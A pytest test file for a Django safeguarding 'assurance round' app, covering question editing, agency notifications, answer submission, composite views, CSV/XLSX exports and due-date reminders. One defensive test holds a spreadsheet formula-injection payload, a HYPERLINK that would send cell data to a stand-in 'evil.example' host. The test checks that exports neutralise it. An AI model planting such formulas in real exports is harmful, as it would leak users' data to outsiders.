"""Assurance rounds (seed 000): the business unit asks, each agency's senior manager answers, the composite."""

import csv
import io

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Notification
from assurance import services
from assurance.models import DEFAULT_QUESTIONS, Answer, AssuranceRound, Question, Request, RoundStatus
from outbox.services import messages_drain as outbox_drain
from tests.assurance.factories import make_round
from tests.forms import with_dates

pytestmark = pytest.mark.django_db


def _answers(round_, yes_no="yes", text="Our policy covers volunteers too.", numbers=(13, 9, 4)):
    out = {}
    for q in round_.questions.all():
        out[q.pk] = {"yes_no": yes_no if q.is_yes_no else "", "text": text}
        if q.is_numbers:
            out[q.pk].update(dict(zip(("referrals", "cases", "outcomes"), numbers, strict=True)))
    return out


def test_a_new_round_has_seed_000s_questions_and_its_commissioning_questions_with_history(analyst):
    round_ = make_round(analyst=analyst, send=False)
    questions = list(round_.questions.all())
    assert [q.text for q in questions] == [text for text, _ in DEFAULT_QUESTIONS]
    assert len(questions) == 8
    assert [q.kind for q in questions].count("numbers") == 1  # the numbers in the last three years
    assert questions[4].is_numbers and "numbers of allegations" in questions[4].text
    assert "contracting and commissioning arrangements" in questions[6].text
    assert "report concerns about staffing issues to commissioners" in questions[7].text
    assert round_.status == RoundStatus.DRAFT
    created = round_.history.get()
    assert created.history_user == analyst and created.history_change_reason == "Assurance round created"


def test_only_the_business_unit_runs_rounds(agency_a_manager, lado_officer):
    for person in (agency_a_manager, lado_officer):
        with pytest.raises(PermissionDenied):
            services.round_create(actor=person, title="x", period="y", due_on="2026-01-01")


def test_questions_are_editable_until_the_round_is_sent(analyst, agency_a, agency_a_manager):
    round_ = make_round(analyst=analyst, send=False)
    first = round_.questions.first()
    services.question_save(actor=analyst, round_=round_, question=first, text="Is there a clear process?",
                           kind=Question.Kind.YES_NO, order=None)
    added = services.question_save(actor=analyst, round_=round_, question=None,
                                   text="Do your contracts ask providers to report staffing concerns?",
                                   kind=Question.Kind.YES_NO, order=None)
    assert added.order == 9
    services.question_remove(actor=analyst, question=round_.questions.get(order=2))
    assert round_.questions.count() == 8
    assert first.history.first().history_change_reason == "Question changed"
    services.round_set_agencies(actor=analyst, round_=round_, agencies=[agency_a])
    services.round_send(actor=analyst, round_=round_)
    with pytest.raises(ValidationError):
        services.question_save(actor=analyst, round_=round_, question=None, text="Late", kind="text", order=None)


def test_sending_notifies_each_agencys_senior_managers_with_a_link_only(analyst, agency_a, agency_b,
                                                                         agency_a_manager, agency_a_viewer,
                                                                         agency_b_outsider,
                                                                         django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):  # not handed to a broker: run here, as the worker would
        round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
    outbox_drain()
    request_a = Request.objects.get(round=round_, agency=agency_a)
    notice = Notification.objects.get(user=agency_a_manager)
    assert notice.link == reverse("assurance:request_answer", args=[request_a.pk])
    assert "Riverside Primary" in notice.title
    assert Notification.objects.filter(user=agency_b_outsider).count() == 1
    assert not Notification.objects.filter(user=agency_a_viewer).exists()  # viewers do not answer
    assert sorted(m.to[0] for m in mail.outbox) == ["a.manager@example.org", "b.manager@example.org"]
    assert reverse("assurance:request_answer", args=[request_a.pk]) in mail.outbox[0].body + mail.outbox[1].body
    with pytest.raises(ValidationError):
        services.round_send(actor=analyst, round_=round_)  # once only


def test_a_round_cannot_be_sent_to_nobody(analyst):
    round_ = make_round(analyst=analyst, send=False)
    with pytest.raises(ValidationError):
        services.round_send(actor=analyst, round_=round_)


def test_senior_manager_saves_a_draft_then_submits(analyst, agency_a, agency_a_manager, agency_b_outsider):
    round_ = make_round(analyst=analyst, agencies=[agency_a])
    request = Request.objects.get(round=round_)
    first = round_.questions.first()
    services.request_answer(actor=agency_a_manager, request=request,
                            answers={first.pk: {"yes_no": "yes", "text": "A flowchart too."}}, submit=False)
    assert Answer.objects.get().history.first().history_change_reason == "Answer saved as a draft"
    with pytest.raises(ValidationError) as error:
        services.request_answer(actor=agency_a_manager, request=request, answers={}, submit=True)
    assert len(error.value.error_dict) == 8  # an empty submission leaves every question to answer
    with pytest.raises(PermissionDenied):
        services.request_answer(actor=agency_b_outsider, request=request, answers=_answers(round_), submit=True)
    services.request_answer(actor=agency_a_manager, request=request, answers=_answers(round_), submit=True)
    request.refresh_from_db()
    assert request.answered_by == agency_a_manager and request.answered_at
    assert request.history.first().history_change_reason == "Answers submitted for the agency"
    with pytest.raises(ValidationError):  # final once submitted
        services.request_answer(actor=agency_a_manager, request=request, answers=_answers(round_, "no"), submit=False)


def test_a_closed_round_takes_no_answers(analyst, agency_a, agency_a_manager):
    round_ = make_round(analyst=analyst, agencies=[agency_a])
    services.round_close(actor=analyst, round_=round_)
    with pytest.raises(ValidationError):
        services.request_answer(actor=agency_a_manager, request=Request.objects.get(), answers=_answers(round_),
                                submit=False)


def test_answer_pages_for_the_senior_manager(login, analyst, agency_a, agency_b, agency_a_manager,
                                             agency_b_outsider, agency_a_viewer):
    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
    request = Request.objects.get(round=round_, agency=agency_a)
    client = login(agency_a_manager)
    page = client.get(reverse("assurance:request_list"))
    assert page.status_code == 200 and "PiPoT assurance audit" in page.content.decode()
    url = reverse("assurance:request_answer", args=[request.pk])
    form_page = client.get(url).content.decode()
    assert "Submit the answers" in form_page
    assert "1. Does your organisation have a clear and well understood process" in form_page  # each question is a legend
    # Each yes/no question's radios, and the numbers question's three boxes, are a fieldset with a legend.
    assert form_page.count('<legend class="govuk-fieldset__legend govuk-fieldset__legend--s">') == 8
    q = list(round_.questions.all())
    data = {"action": "draft", f"q{q[0].pk}": "no", f"q{q[0].pk}_text": "Policy under review."}
    assert client.post(url, data).status_code == 302
    assert Answer.objects.get().yes_no == "no"
    # Submitting with questions unanswered shows which, and keeps what was typed.
    response = client.post(url, {**data, "action": "submit"})
    assert response.status_code == 200
    body = response.content.decode()
    assert "Answer this question before you submit." in body and "Policy under review." in body
    full = {"action": "submit"}
    for question in q:
        if question.is_yes_no:
            full[f"q{question.pk}"] = "yes"
        if question.is_numbers:
            full.update({f"q{question.pk}_referrals": "13", f"q{question.pk}_cases": "9",
                         f"q{question.pk}_outcomes": "4"})
        full[f"q{question.pk}_text"] = "Thirteen in three years." if not question.is_yes_no else ""
    assert client.post(url, full)["Location"] == reverse("assurance:request_list")
    assert "Thirteen in three years." in client.get(url).content.decode()  # read-only now
    # Someone else's request, a viewer, the business unit: 404 (it is not theirs to answer).
    for person in (agency_b_outsider, agency_a_viewer, analyst):
        assert login(person).get(url).status_code == 404
        assert login(person).post(url, full).status_code == 404


def test_business_unit_runs_a_round_through_the_pages(login, analyst, agency_a, agency_b, agency_a_manager,
                                                      agency_b_outsider):
    client = login(analyst)
    response = client.post(reverse("assurance:round_create"),
                           with_dates({"title": "PiPoT audit 2026", "period": "2025 to 2026", "due_on": "2026-12-31"}))
    round_ = AssuranceRound.objects.get()
    assert response["Location"] == reverse("assurance:round_detail", args=[round_.pk])
    q = round_.questions.last()
    client.post(reverse("assurance:question_edit", args=[round_.pk, q.pk]),
                {"text": "Is there a named lead for adults?", "kind": "yes_no", "order": "6"})
    assert Question.objects.get(pk=q.pk).text == "Is there a named lead for adults?"
    client.post(reverse("assurance:question_add", args=[round_.pk]), {"text": "Are volunteers covered?", "kind": "yes_no"})
    assert round_.questions.count() == 9
    client.post(reverse("assurance:round_agencies", args=[round_.pk]), {"agencies": [agency_a.pk, agency_b.pk]})
    client.post(reverse("assurance:round_send", args=[round_.pk]))
    round_.refresh_from_db()
    assert round_.status == RoundStatus.SENT
    page = client.get(reverse("assurance:round_detail", args=[round_.pk])).content.decode()
    assert "0 of 2 agencies have submitted" in page
    request_a = Request.objects.get(agency=agency_a)
    services.request_answer(actor=agency_a_manager, request=request_a, answers=_answers(round_), submit=True)
    services.request_answer(actor=agency_b_outsider, request=Request.objects.get(agency=agency_b),
                            answers=_answers(round_, "no", "Draft only."), submit=False)
    composite = client.get(reverse("assurance:composite", args=[round_.pk])).content.decode()
    assert "Our policy covers volunteers too." in composite
    assert "Draft only." not in composite  # drafts stay the agency's until submitted
    assert '<th scope="col" class="govuk-table__header">Riverside Primary</th>' in composite
    assert 'scope="row"' in composite
    transposed = client.get(reverse("assurance:composite", args=[round_.pk]) + "?by=agency").content.decode()
    assert '<th scope="row" class="govuk-table__header">Riverside Primary</th>' in transposed

    rows = list(csv.reader(io.StringIO(client.get(reverse("assurance:composite_csv", args=[round_.pk]))
                                       .content.decode())))
    assert rows[0] == ["Question", "Hilltop Academy", "Riverside Primary"]
    assert rows[1] == ["Status", "Not submitted yet", "Submitted"]
    assert rows[2][2] == "Yes. Our policy covers volunteers too." and rows[2][1] == ""
    assert len(rows) == 2 + 9 + 3  # the questions, then the numbers question's three totals
    xlsx = client.get(reverse("assurance:composite_xlsx", args=[round_.pk]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert [c.value for c in sheet[3]] == ["Question", "Hilltop Academy", "Riverside Primary"]
    assert sheet.cell(row=5, column=3).value == "Yes. Our policy covers volunteers too."

    client.post(reverse("assurance:round_close", args=[round_.pk]))
    assert AssuranceRound.objects.get().status == RoundStatus.CLOSED


def test_agencies_added_after_sending_are_sent_at_once(analyst, agency_a, agency_b, agency_b_outsider, login):
    round_ = make_round(analyst=analyst, agencies=[agency_a])
    login(analyst).post(reverse("assurance:round_agencies", args=[round_.pk]), {"agencies": [agency_b.pk]})
    assert set(round_.requests.values_list("agency__name", flat=True)) == {"Riverside Primary", "Hilltop Academy"}
    assert Request.objects.get(agency=agency_b).sent_at is not None
    assert Notification.objects.filter(user=agency_b_outsider).exists()


def test_composite_page_query_count_does_not_grow_with_agencies(analyst, agency_a, agency_b, police_agency, login,
                                                                django_assert_max_num_queries):
    from tests.agencies.factories import UserFactory, member
    from agencies.models import Role

    member(UserFactory(username="police.sm"), police_agency, Role.SENIOR_MANAGER)
    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b, police_agency])
    client = login(analyst)
    url = reverse("assurance:composite", args=[round_.pk])
    client.get(url)
    with django_assert_max_num_queries(9):
        assert client.get(url).status_code == 200


def test_senior_managers_and_the_business_unit_find_assurance_in_the_menu(login, analyst, agency_a_manager,
                                                                          agency_a_viewer):
    my_work = login(agency_a_manager).get(reverse("allegations:my_work")).content.decode()
    assert reverse("assurance:request_list") in my_work
    assert f'href="{reverse("assurance:round_list")}"' in login(analyst).get(reverse("reporting:figures")).content.decode()
    viewer_page = login(agency_a_viewer).get(reverse("allegations:case_list")).content.decode()
    assert "/assurance/" not in viewer_page


def test_an_answer_never_becomes_a_formula_in_the_downloads(analyst, agency_a, agency_a_manager, login):
    """An agency's answer "=HYPERLINK(...)" stays text in the business unit's CSV and workbook."""
    round_ = make_round(analyst=analyst, agencies=[agency_a], send=False)
    services.question_save(actor=analyst, round_=round_, question=None, text="Anything else?", kind="text", order=None)
    round_ = services.round_send(actor=analyst, round_=round_)
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    services.request_answer(actor=agency_a_manager, request=Request.objects.get(round=round_),
                            answers=_answers(round_, text=evil), submit=True)
    client = login(analyst)
    rows = list(csv.reader(io.StringIO(client.get(reverse("assurance:composite_csv", args=[round_.pk]))
                                       .content.decode())))
    answers = [row[1] for row in rows[2:]]
    assert "'" + evil in answers and not any(a.startswith(("=", "+", "-", "@")) for a in answers)
    sheet = load_workbook(io.BytesIO(client.get(reverse("assurance:composite_xlsx", args=[round_.pk])).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "'" + evil in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)


# --- Numbers that the composite totals, and the due date chased (issue 18 part 2) -----------------------------


def test_the_numbers_question_takes_numbers_that_the_composite_totals(analyst, agency_a, agency_b, agency_a_manager,
                                                                       login):
    from tests.agencies.factories import UserFactory, member
    from agencies.models import Role

    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
    b_manager = member(UserFactory(username="b.manager"), agency_b, Role.SENIOR_MANAGER)
    numbers_q = round_.questions.get(kind="numbers")
    services.request_answer(actor=agency_a_manager, request=round_.requests.get(agency=agency_a),
                            answers=_answers(round_, numbers=(13, 9, 4)), submit=True)
    services.request_answer(actor=b_manager, request=round_.requests.get(agency=agency_b),
                            answers=_answers(round_, numbers=(3, None, 1)), submit=True)
    answer = Answer.objects.get(question=numbers_q, request__agency=agency_a)
    assert (answer.referrals, answer.cases, answer.outcomes) == (13, 9, 4)
    assert answer.display.startswith("Referrals 13, Cases 9, Outcomes 4")
    page = login(analyst).get(reverse("assurance:composite", args=[round_.pk])).content.decode()
    assert f'id="totals-{numbers_q.pk}"' in page
    totals = page[page.index(f'id="totals-{numbers_q.pk}"'):]
    for label, total in (("Referrals", 16), ("Cases", 9), ("Outcomes", 5)):
        assert (f'<th scope="row" class="govuk-table__header">{label}</th><td class="govuk-table__cell '
                f'govuk-table__cell--numeric">{total}</td>') in totals
    rows = list(csv.reader(io.StringIO(login(analyst).get(
        reverse("assurance:composite_csv", args=[round_.pk])).content.decode())))
    assert ["Total of question 5: referrals", "16"] in rows and ["Total of question 5: outcomes", "5"] in rows


def test_a_numbers_question_refuses_words_and_needs_a_number_to_submit(analyst, agency_a, agency_a_manager, login):
    round_ = make_round(analyst=analyst, agencies=[agency_a])
    request = round_.requests.get()
    numbers_q = round_.questions.get(kind="numbers")
    url = reverse("assurance:request_answer", args=[request.pk])
    client = login(agency_a_manager)
    body = client.post(url, {"action": "draft", f"q{numbers_q.pk}_referrals": "thirteen"}).content.decode()
    assert "Enter the number of referrals as a whole number, like 12." in body
    answers = _answers(round_)
    answers[numbers_q.pk].update(referrals=None, cases=None, outcomes=None)
    with pytest.raises(ValidationError) as error:
        services.request_answer(actor=agency_a_manager, request=request, answers=answers, submit=True)
    assert f"q{numbers_q.pk}_referrals" in error.value.message_dict


def test_the_due_date_is_chased_once_reminder_then_overdue_and_the_business_unit_told(
        analyst, agency_a, agency_b, agency_a_manager):
    import datetime as dt

    from assurance import chasing

    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
    due = round_.due_on
    services.request_answer(actor=agency_a_manager, request=round_.requests.get(agency=agency_a),
                            answers=_answers(round_), submit=True)  # agency A has answered: never chased
    waiting = round_.requests.get(agency=agency_b)
    assert chasing.sweep(today=due - dt.timedelta(days=10)) == {"reminders": 0, "overdue": 0}
    assert chasing.sweep(today=due - dt.timedelta(days=2)) == {"reminders": 1, "overdue": 0}
    assert chasing.sweep(today=due - dt.timedelta(days=1)) == {"reminders": 0, "overdue": 0}  # once
    assert chasing.sweep(today=due + dt.timedelta(days=1)) == {"reminders": 0, "overdue": 1}
    assert chasing.sweep(today=due + dt.timedelta(days=2)) == {"reminders": 0, "overdue": 0}
    waiting.refresh_from_db()
    assert waiting.reminder_sent_at and waiting.overdue_sent_at
    told = Notification.objects.filter(user=analyst, key=f"assurance-overdue-unit:{waiting.pk}")
    assert told.count() == 1 and agency_b.name in told.get().title
    answered = round_.requests.get(agency=agency_a).pk
    assert not Notification.objects.filter(key__in=[f"assurance-reminder:{answered}", f"assurance-overdue:{answered}",
                                                    f"assurance-overdue-unit:{answered}"]).exists()
    assert waiting.history.first().history_change_reason.startswith("Overdue")
